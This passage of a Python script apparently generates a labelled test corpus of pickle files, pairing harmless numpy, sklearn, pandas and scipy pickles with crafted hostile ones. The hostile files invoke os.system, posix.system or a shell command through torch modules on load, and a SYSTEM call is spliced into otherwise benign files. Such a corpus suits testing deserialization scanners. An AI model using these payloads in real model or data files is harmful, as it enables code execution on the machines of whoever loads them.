                                   Raw(name("torch.serialization", "pickle"))),
        "module-hidden": name("torch.serialization", "os.system") + ARG + b"R",
        "config-module": call("torch.utils._config_module", "ConfigModule.load_config",
                              Raw(call("types", "SimpleNamespace")), INNER),
        "ordered-dict": name("collections", "OrderedDict") + b")R(" + text("weight") + call("torch.utils.collect_env", "run", SHELL) + b"u",
    }
    for label, body in cases.items():
        add("torch", label, pickled(body), needs="torch")


def eval_later():
    source = "lambda: " + PYTHON
    return eval(source)


class Called:
    """Calls a function that travels as code."""

    def __init__(self, function):
        self.function = function

    def __reduce__(self):
        return self.function, ()


def injected(honest):
    """Honest files with a call before, in and behind what they hold."""
    for number, (label, data) in enumerate(honest):
        if data[:1] != b"\x80":
            continue
        head, rest = data[:2], data[2:]
        add("injected", label + "-front", head + SYSTEM + ARG + b"R0" + rest, needs=label.split("-")[0])
        if number % 2:
            add("injected", label + "-back", data[:-1] + b"0" + SYSTEM + ARG + b"R.", needs=label.split("-")[0])
        else:
            add("injected", label + "-beside", head + stacked("posix", "system") + ARG + b"R0" + rest, needs=label.split("-")[0])


def honest():
    import numpy
    yield "python-dict", pickle.dumps({"a": [1, 2, 3], "b": "text"}, 4)
    yield "numpy-array", pickle.dumps(numpy.arange(10.0), 4)
    yield "numpy-array2", pickle.dumps(numpy.arange(10.0), 2)
    yield "numpy-random", pickle.dumps(numpy.random.RandomState(1), 3)
    import sklearn.ensemble
    import sklearn.linear_model
    import sklearn.pipeline
    import sklearn.preprocessing
    x, y = numpy.random.RandomState(0).rand(20, 3), [0, 1] * 10
    yield "sklearn-forest", pickle.dumps(sklearn.ensemble.RandomForestClassifier(2).fit(x, y), 4)
    yield "sklearn-pipeline", pickle.dumps(sklearn.pipeline.make_pipeline(
        sklearn.preprocessing.StandardScaler(), sklearn.linear_model.LogisticRegression()).fit(x, y), 5)
    yield "sklearn-boosting", pickle.dumps(sklearn.ensemble.HistGradientBoostingClassifier(max_iter=2).fit(x, y), 3)
    import pandas
    yield "pandas-frame", pickle.dumps(pandas.DataFrame({"os": [1, 2], "system": ["a", "b"]}), 4)
    yield "pandas-series", pickle.dumps(pandas.Series(pandas.date_range("2020", periods=3, tz="UTC")), 5)
    import scipy.sparse
    import scipy.stats
    yield "scipy-sparse", pickle.dumps(scipy.sparse.eye(3).tocsr(), 4)
    yield "scipy-frozen", pickle.dumps(scipy.stats.uniform(0, 1), 4)


def main():
    folder = sys.argv[1]
    os.makedirs(folder, exist_ok=True)
    opcodes()
    functions()
    gadgets()
    torch()
    injected(honest())
    with open(os.path.join(folder, "manifest.csv"), "w", newline="") as out:
        writer = csv.writer(out, lineterminator="\n")
        writer.writerow(["file", "family", "loader", "needs"])
        seen = set()
        for family, label, data, loader, needs in FILES:
            file = family + "-" + re.sub(r"[^A-Za-z0-9_-]+", "-", label).strip("-") + ".pkl"
            if file in seen:
                continue
            seen.add(file)
            with open(os.path.join(folder, file), "wb") as target:
                target.write(data)
            writer.writerow([file, family, loader, needs])
    print(len(seen), "files")


if __name__ == "__main__":
    main()
